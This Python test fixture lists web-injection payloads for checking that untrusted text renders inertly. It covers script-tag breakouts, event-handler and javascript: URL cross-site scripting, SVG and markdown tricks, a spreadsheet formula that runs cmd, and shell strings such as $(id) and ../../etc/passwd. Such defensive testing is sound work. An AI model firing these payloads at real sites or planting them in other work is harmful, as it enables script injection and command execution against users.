"""Texts that would run, load or disturb something if any step showed them as anything but text.

Whatever runs sets `top.hit`, opens a dialog, or asks a host for something; the browser part looks for all three. `CALL` is what a payload runs.
"""

from __future__ import annotations

CALL = "top.hit=1,alert(1)"
FAR = "http://192.0.2.1/x"  # TEST-NET-1 (RFC 5737): no host is there

SCRIPTS = (
    f"<script>{CALL}</script>",
    f"</p></div></td></table></pre></body><script>{CALL}</script>",
    f"</script><script>{CALL}</script>",
    f"</title><script>{CALL}</script>",
    f"</style><script>{CALL}</script>",
    f"</textarea><script>{CALL}</script>",
    f"</noscript><script>{CALL}</script>",
    f"<!--><script>{CALL}</script>-->",
    f"]]><script>{CALL}</script>",
    f"<scr<script>ipt>{CALL}</scr</script>ipt>",
    f"<SCRIPT/x>{CALL}</SCRIPT>",
    f"<script src={FAR}.js></script>",
    f"<script type=module>import '{FAR}.js'</script>",
    f"<template><script>{CALL}</script></template>",
)
HANDLERS = (
    f"<img src=x onerror={CALL}>",
    f'"><img src=x onerror="{CALL}">',
    f"'><img src=x onerror='{CALL}'>",
    f"`><img src=x onerror=`{CALL}`>",
    f"<IMG/SRC=x/ONERROR={CALL}>",
    f"<img src=x\nonerror\n=\n{CALL}>",
    f'" onmouseover="{CALL}" autofocus onfocus="{CALL}" x="',
    f"' autofocus onfocus='{CALL}' x='",
    f"<body onload={CALL}>",
    f"<input autofocus onfocus={CALL}>",
    f"<details open ontoggle={CALL}>x</details>",
    f"<video src={FAR} onerror={CALL}></video>",
    f"<audio src onerror={CALL}>",
    f"<marquee onstart={CALL}>x</marquee>",
    f"<style>@keyframes k{{}}</style><b style='animation:k 1s' onanimationstart={CALL}>x</b>",
)
ADDRESSES = (
    f"<a href='javascript:{CALL}'>x</a>",
    f"<a href=' java\tscript:{CALL}'>x</a>",
    f"<a href='&#106;avascript:{CALL}'>x</a>",
    f"<a href='data:text/html,<script>{CALL}</script>'>x</a>",
    f"<iframe src='javascript:{CALL}'></iframe>",
    f"<iframe srcdoc='<script>{CALL}</script>'></iframe>",
    f"<object data='data:text/html,<script>{CALL}</script>'></object>",
    f"<embed src='{FAR}'>",
    f"<form action='javascript:{CALL}'><button autofocus>x</button></form>",
    f"<base href='{FAR}/'>",
    f"<meta http-equiv=refresh content='0;url={FAR}'>",
    f"<link rel=stylesheet href='{FAR}.css'>",
    f"<img src='{FAR}.png' srcset='{FAR}.png 2x'>",
    f"<p style='background:url({FAR})'>x</p>",
    f"<style>@import '{FAR}.css'; p{{background:url({FAR})}}</style>",
)
DRAWINGS = (
    f"<svg onload={CALL}>",
    f"<svg><script>{CALL}</script></svg>",
    f"<svg><script href='{FAR}.js'/></svg>",
    f"<svg><a href='javascript:{CALL}'><text y=9>x</text></a></svg>",
    f"<svg><animate onbegin={CALL} attributeName=x dur=1s></svg>",
    f"<svg><foreignObject><img src=x onerror={CALL}></foreignObject></svg>",
    f"<svg><style><img src=x onerror={CALL}></style></svg>",
    f"<svg><image href='{FAR}.png'/></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={CALL}></style></mglyph></table></mtext></math>",
    f"<math href='javascript:{CALL}'><mi>x</mi></math>",
)
MARKUP = (
    f"![x]({FAR}.png)",
    f"[x](javascript:{CALL})",
    f"<javascript:{CALL}>",
    f"[x]: {FAR} '\"><img src=x onerror={CALL}>'",
    f"```\n</code></pre><img src=x onerror={CALL}>\n```",
    f"# <img src=x onerror={CALL}>",
    f"| a | <img src=x onerror={CALL}> |\n| --- | --- |",
    f"$\\href{{javascript:{CALL}}}{{x}}$",
    f"\\(\\unicode{{<img src=x onerror={CALL}>}}\\)",
    f"$$\\require{{html}}\\style{{background:url({FAR})}}{{x}}$$",
    "$\\def\\a{\\a\\a}\\a$",
    f"{{{{constructor.constructor('{CALL}')()}}}}",
)
CHARACTERS = (
    "\x1b]0;hit\x07\x1b[2J\x1b[31mred\x1b]8;;http://192.0.2.1\x07link\x1b]8;;\x07",
    "\u202egnp.tpircs\u202c \u2066isolated\u2069 \u200fright",
    f"\ufeff<\u200bscript>{CALL}</script>",
    f"\uff1cscript\uff1e{CALL}\uff1c/script\uff1e",
    f"+ADw-script+AD4-{CALL}+ADw-/script+AD4-",
    "nul \x00 bell \x07 backspace \x08 delete \x7f",
    '=HYPERLINK("http://192.0.2.1","x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1; -1-1; =1+1",
    "\u2028line\u2029paragraph\x85next",
    "Z" + "\u0301" * 200 + "algo",
    "[31m not an escape, %s %(x)s {0} ${HOME} $(id) `id` ../../etc/passwd",
)
PAYLOADS = (*SCRIPTS, *HANDLERS, *ADDRESSES, *DRAWINGS, *MARKUP, *CHARACTERS)
